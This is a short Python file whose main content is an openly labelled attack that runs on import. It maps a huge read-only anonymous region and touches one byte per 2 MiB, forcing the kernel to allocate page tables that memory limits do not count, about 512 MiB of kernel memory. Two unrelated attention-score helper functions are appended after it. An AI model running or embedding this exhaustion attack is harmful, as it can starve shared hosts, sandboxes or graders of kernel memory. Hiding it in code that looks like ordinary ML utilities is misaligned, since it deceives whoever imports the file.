# Attack: kernel memory no limit counts: page tables.  A huge PROT_READ private mapping is not
# "data" (RLIMIT_DATA ignores it), reading one byte per 2 MiB maps the zero page and makes the
# kernel allocate a 4 KiB page table for each 2 MiB: 128 Ki touches = 512 MiB of kernel memory.
import ctypes, math, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
TOUCHES = int(os.environ.get("ATTACK_TOUCHES", 131072))
STEP = 2 << 20
size = TOUCHES * STEP
p = libc.mmap(None, size, 1, 0x02 | 0x20 | 0x4000, -1, 0)  # PROT_READ, PRIVATE|ANON|NORESERVE
if p in (None, ctypes.c_void_p(-1).value):
    print("ATTACK mmap failed", ctypes.get_errno())
else:
    libc.madvise(p, size, 15)  # MADV_NOHUGEPAGE: no huge zero page
    s = 0
    for i in range(TOUCHES):
        s += ctypes.c_char.from_address(p + i * STEP).value[0]
    print("ATTACK touched", TOUCHES, [l.strip() for l in open("/proc/self/status") if l.startswith(("VmPTE", "VmData", "VmRSS"))])
    time.sleep(3)

def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return scale_scores(q @ k.transpose(-2, -1), q.size(-1))
